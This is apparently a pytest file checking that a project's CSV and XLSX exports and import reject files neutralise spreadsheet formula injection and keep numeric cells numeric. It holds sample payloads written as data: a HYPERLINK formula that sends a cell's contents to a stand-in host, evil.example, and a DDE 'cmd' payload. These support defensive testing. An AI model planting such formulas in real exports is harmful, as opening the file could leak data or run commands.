"""Cells of CSV and XLSX exports never run as formulas; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from servitize.contracts.report import Stop
from servitize.contracts.report_files import table_csv, tables_xlsx
from servitize.core.cells import safe_cell
from tests.installed_base.importing.helpers import prefix, rejects, run, write

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-161.80", "-161.80"),  # an amount as text stays an amount
        ("+49", "+49"),
        ("1e-5", "1e-5"),
        ("plain text", "plain text"),
        ("", ""),
        (-161.8, -161.8),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def _stop(cause: str) -> Stop:
    start = datetime(2026, 4, 3, 8, tzinfo=UTC)
    return Stop(
        "2026-04", "S-A", "down", start, datetime(2026, 4, 3, 13, tzinfo=UTC), 5.0, "record", cause
    )


def test_the_downtime_csv_neutralises_a_formula_cause() -> None:
    text = table_csv("downtime", [], [_stop(ATTACK)])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["cause"] == "'" + ATTACK
    assert rows[0]["hours_in_month"] == "5.0"


def test_the_xlsx_holds_a_formula_cause_as_text_and_numbers_as_numbers() -> None:
    book = load_workbook(io.BytesIO(tables_xlsx([], [_stop(ATTACK), _stop("-12.5")])))
    sheet = book["Downtime"]
    head = [c.value for c in sheet[1]]
    cause, hours = head.index("cause"), head.index("hours_in_month")
    first, second = list(sheet.iter_rows(min_row=2, values_only=False))[:2]
    assert first[cause].data_type == "s" and first[cause].value == "'" + ATTACK
    assert first[hours].value == 5.0 and first[hours].data_type == "n"
    assert second[cause].value == "-12.5"


def test_a_reject_file_neutralises_a_formula_value(engine: Engine, tmp_path: Path) -> None:
    p = prefix()
    path = write(
        tmp_path / "users.csv",
        f"username,role,full_name\n{p}-u,wizard,{ATTACK.replace(',', ';')}\n",
    )
    result = run(engine, "users", path)
    row = rejects(result)[0]
    assert row["full_name"] == "'" + ATTACK.replace(",", ";")
    assert row["reason"].startswith("role 'wizard' is not one of")
